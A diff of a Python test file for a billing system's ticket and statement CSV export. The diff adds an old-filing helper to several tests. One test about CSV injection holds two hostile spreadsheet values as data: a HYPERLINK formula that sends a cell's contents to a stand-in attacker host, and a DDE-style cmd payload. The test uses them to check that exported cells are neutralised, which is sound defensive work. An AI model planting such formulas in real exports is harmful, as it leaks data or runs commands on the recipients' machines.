@@ -21,7 +21,7 @@ from secondline.billing.models import BillingTerms, PrepaidPackage, Statement
 from secondline.common import spreadsheet
 from secondline.tickets.models import TicketEvent
 from tests.billing.conftest import msk
-from tests.factories import consultation_draft, file_ticket
+from tests.factories import consultation_draft, file_ticket, filed_long_ago
 
 NOVEMBER = dt.date(2024, 11, 1)
 
@@ -38,7 +38,7 @@ def november(personas: Any, ticket: Any, log: Any, approved: Any, agent: Any) ->
         valid_from=dt.date(2024, 11, 1),
         valid_until=dt.date(2025, 1, 31),
     )
-    second = file_ticket(personas.member, consultation_draft(subject="Price lists"))
+    second = filed_long_ago(file_ticket(personas.member, consultation_draft(subject="Price lists")))
     approved(ticket, msk(2024, 11, 1, 18), msk(2024, 11, 1, 21))
     approved(second, msk(2024, 11, 3, 13), msk(2024, 11, 3, 16))
     logs = [
@@ -260,7 +260,7 @@ def test_the_csv_writes_a_formula_in_a_subject_or_description_as_text(
     """A customer's ticket subject and an agent's description reach the manager's spreadsheet:
     a cell starting with =, +, -, @ must not run (OWASP CSV Injection)."""
     subject = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    ticket = file_ticket(personas.member, consultation_draft(subject=subject))
+    ticket = filed_long_ago(file_ticket(personas.member, consultation_draft(subject=subject)))
     log(ticket, msk(2024, 11, 6, 11), msk(2024, 11, 6, 12), description="@SUM(1+1)*cmd|'/C calc'")
     statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
     rows = list(csv.reader(io.StringIO(export.statement_csv(statement, "en").lstrip("\ufeff"))))
